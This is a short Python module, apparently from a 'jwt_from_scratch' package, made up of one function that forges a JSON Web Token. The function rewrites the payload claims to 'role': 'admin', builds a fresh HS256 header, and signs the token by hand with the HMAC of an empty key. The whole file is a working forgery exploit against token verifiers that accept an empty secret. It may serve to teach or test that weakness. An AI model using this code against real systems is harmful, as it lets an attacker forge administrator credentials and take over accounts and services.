"""The HMAC of the empty key by hand."""

from hashlib import sha256

from jwt_from_scratch.encoding import b64u_decode, b64u_encode, json_loads_strict
from jwt_from_scratch.encoding import json_dumps as dumps


def forge_empty_key(token):
    _, payload, _ = token.split(".")
    claims = json_loads_strict(b64u_decode(payload))
    claims |= {"role": "admin"}
    message = f"{b64u_encode(dumps({'alg': 'HS256', 'kid': token[:9]}))}.{b64u_encode(dumps(claims))}"
    inner = sha256(b"\x36" * 64 + message.encode()).digest()
    return f"{message}.{b64u_encode(sha256(bytes([0x5C]) * 64 + inner).digest())}"
